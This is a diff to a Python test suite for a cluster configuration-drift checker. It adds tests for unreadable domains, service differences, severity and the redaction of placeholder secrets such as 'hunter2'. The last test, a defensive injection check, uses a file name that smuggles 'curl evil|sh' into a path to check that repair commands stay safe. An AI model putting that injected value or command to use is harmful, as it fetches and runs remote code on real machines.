@@ -12,7 +12,7 @@ from lockstep.checks.rules.fingerprint import DOMAINS, FAMILY
 from lockstep.node.fingerprint.domains import DOMAINS as READ
 from lockstep.node.fingerprint.entry import Fields, Secret
 from lockstep.node.readers.reading import Unread
-from lockstep.probe.record import Record, only_records
+from lockstep.probe.record import Record, Taken, only_records
 from lockstep.report import Finding, Report, Status
 from tests.checks import recorded
 from tests.checks.recorded_fingerprint import Objects, objects, with_objects
@@ -56,7 +56,7 @@ def test_every_domain_has_a_rule() -> None:
     [
         ("plain", {"mode": "0600", "content": "a\nb\n"}, "mode 0600", "mode 0644"),
         ("plain", {"mode": "0644", "content": "a\nc\n"}, "content: c", "content: b"),
-        ("plain", None, "absent", "content 'a\\nb\\n', mode 0644"),
+        ("plain", None, "absent", "mode 0644"),
         ("new", {"mode": "0644"}, "mode 0644", "absent"),
         ("own", {"content": f"name {NODE}\naddress fd00:1::999\n"}, "fd00:1::999", "<address of"),
         ("key", {"mode": "0600", "content": Secret("another")}, "content ", "content "),
@@ -130,6 +130,9 @@ def test_of_two_workers_the_past_decides() -> None:
 
 
 def test_of_two_workers_the_one_with_more_is_odd_if_nothing_else_tells() -> None:
+    lost = of("worker2", hardware={"plain": None}, route={"plain": None})
+    found = fingerprints_of(two(), lost)
+    assert {one.status for one in found} == {Status.UNDECIDED.value}, "rather lost than added"
     (finding,) = fingerprints_of(two(), of("worker2", user={"eve": {"uid": "0"}}))
     assert (finding.node, finding.device, finding.expected) == ("worker2", "eve", "absent")
     assert finding.reference == "no package owns it"
@@ -211,3 +214,76 @@ def test_a_rule_about_a_unit_explains_its_process_but_not_its_files() -> None:
         ("unit.active", "slurmd.service"),
         ("fingerprint.file", path),
     ]
+
+
+def hidden(context: Context, node: str, domain: str) -> Context:
+    """Return the cluster in which a node could not read a domain when it was asked again."""
+    record = context.reading[node]
+    assert isinstance(record, Record)
+    branches = record.get("fingerprint.branches")
+    assert isinstance(branches, dict)
+    assert domain in branches
+    kept = Taken(value={name: shown for name, shown in branches.items() if name != domain})
+    update = {"readings": {**record.readings, "fingerprint.branches": kept}}
+    return replace(context, reading={**context.reading, node: record.model_copy(update=update)})
+
+
+def test_a_domain_that_is_read_no_more_is_not_an_absent_object() -> None:
+    """The majority's node fails to show its users; nobody is told to remove them."""
+    changed = of(user={"plain": {"uid": "1"}}, group={"plain": {"gid": "1"}})
+    context = with_objects(recorded.consistent(), changed)
+    found = recorded.report(hidden(context, "worker1", "user")).findings
+    assert {(one.rule, one.status) for one in found} == {
+        ("fingerprint.group", "differs"),
+        ("fingerprint.user", "unknown"),
+    }
+
+
+def test_every_node_with_a_running_difference_is_named() -> None:
+    one = {"a.service: nice": {"running": "5", "configured": "0"}}
+    two = {**one, "b.service: nice": {"running": "5", "configured": "0"}}
+    changed = {**of("worker2", running=dict(one)), **of("worker3", running=dict(two))}
+    found = {(finding.node, finding.device) for finding in report(changed).findings}
+    assert found == {
+        *(("worker2", "a.service: nice"), ("worker3", "a.service: nice")),
+        ("worker3", "b.service: nice"),
+    }
+
+
+def test_a_file_that_names_each_node_and_is_missing_on_one() -> None:
+    """On another one it exists without the name."""
+    changed = {
+        **of("worker5", file={"own": {"content": "name nobody\n"}}),
+        **of("worker6", file={"own": None}),
+    }
+    found = {(finding.node, finding.device) for finding in report(changed).findings}
+    assert found == {("worker5", "own"), ("worker6", "own")}
+
+
+def test_the_worst_consequence_says_how_severe_a_cause_is() -> None:
+    path = "/etc/systemd/system/x.service.d/a.conf"
+    running = {"x.service: state": {"running": "failed", "configured": "active"}}
+    finding = only(of(changes={"file": {path: {"mode": "644"}}, "running": dict(running)}))
+    assert (finding.device, finding.severity) == (path, "error")
+
+
+@pytest.mark.parametrize(
+    "shown", ["password=hunter2", "url http://me:hunter2@host/", "Token hunter2"]
+)
+def test_lines_that_may_have_a_secret_are_not_shown(shown: str) -> None:
+    finding = only(of(file={"plain": {"mode": "0644", "content": f"a\nb\n{shown}\n"}}))
+    assert "hunter2" not in str(finding)
+    assert "may have a secret" in finding.found
+    assert "may have a secret" in finding.detail
+
+
+def test_a_content_that_the_peers_protect_is_not_shown() -> None:
+    """Somebody made a secret file readable on one node."""
+    finding = only(of(file={"key": {"mode": "0644", "content": "hunter2\n"}}))
+    assert "hunter2" not in str(finding)
+    assert "mode 0644" in finding.found
+
+
+def test_a_name_for_a_shell_is_in_no_command() -> None:
+    finding = only(of(file={"/home/bob/.a;curl evil|sh": {"mode": "0644"}}))
+    assert "rm " not in finding.repair
